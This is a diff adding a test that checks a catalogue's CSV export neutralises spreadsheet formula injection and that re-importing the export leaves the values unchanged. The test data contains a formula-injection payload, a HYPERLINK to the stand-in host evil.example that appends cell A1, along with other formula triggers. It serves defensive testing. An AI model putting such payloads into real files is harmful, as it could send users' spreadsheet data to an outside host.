@@ -207,3 +207,28 @@ async def test_an_xlsx_catalogue_imports_like_a_csv_one(world: World) -> None:
 async def test_an_export_of_an_unknown_region_is_not_found(world: World) -> None:
     response = await world.gateway.get("/api/catalog/exports/catalogue?region=999999", headers=world.inspector)
     assert response.status_code == 404
+
+
+async def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_and_reimports_unchanged_A28_1(
+    world: World,
+) -> None:
+    typed = {"name": '=HYPERLINK("http://evil.example/?"&A1,"人口")', "summary": "-2+3", "source_system": "@cmd",
+             "tags": "+SUM(A1);人口"}  # fmt: skip
+    response = await import_file(world, world.police, csv_file(row("01-02/500001", **typed)), query="?submit=true")
+    assert response.json()["submitted"] == ["01-02/500001"], response.text
+    entry_id = (await listed(world, world.police, "submitted"))["01-02/500001"]
+    assert (await world.gateway.post(f"/api/catalog/entries/{entry_id}/approve", headers=world.reviewer)).is_success
+
+    exported = await world.gateway.get("/api/catalog/exports/catalogue?format=csv", headers=world.inspector)
+    (written,) = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
+    # OWASP's CSV-injection guidance: one apostrophe in front; the rest of the value as it was.
+    assert {c: written[c] for c in typed} == {
+        "name": '\'=HYPERLINK("http://evil.example/?"&A1,"人口")', "summary": "'-2+3", "source_system": "'@cmd",
+        "tags": "'+SUM(A1);人口",
+    }  # fmt: skip
+    assert written["item_length"] == "18"  # numbers stay numbers
+
+    again = await import_file(world, world.police, exported.content)
+    assert again.json()["unchanged"] == ["01-02/500001"], again.text
+    entry = await world.gateway.get(f"/api/catalog/entries/{entry_id}", headers=world.police["headers"])
+    assert entry.json()["current"]["name"] == typed["name"]
